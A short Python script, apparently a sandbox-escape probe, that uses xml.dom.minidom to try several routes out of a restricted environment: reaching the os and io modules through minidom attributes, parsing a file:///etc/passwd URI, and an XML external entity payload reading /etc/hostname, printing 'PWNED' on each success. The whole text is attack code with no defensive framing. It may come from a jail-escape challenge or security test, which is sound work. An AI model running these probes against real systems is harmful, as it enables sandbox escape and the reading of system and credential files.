# Documents lead to what made them, and to what fetches and opens.
from xml.dom import minidom

document = minidom.parseString("<a b='1'>x</a>")
for way in (
    lambda: minidom.xml,
    lambda: minidom.io,
    lambda: document.implementation.createDOMBuilder(1, None).parseURI("file:///etc/passwd").documentElement,
    lambda: minidom.domreg.os,
    lambda: minidom.parseString('<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/hostname">]><a>&e;</a>').documentElement.firstChild.data,
):
    try:
        print("PWNED", way())
    except Exception:
        pass
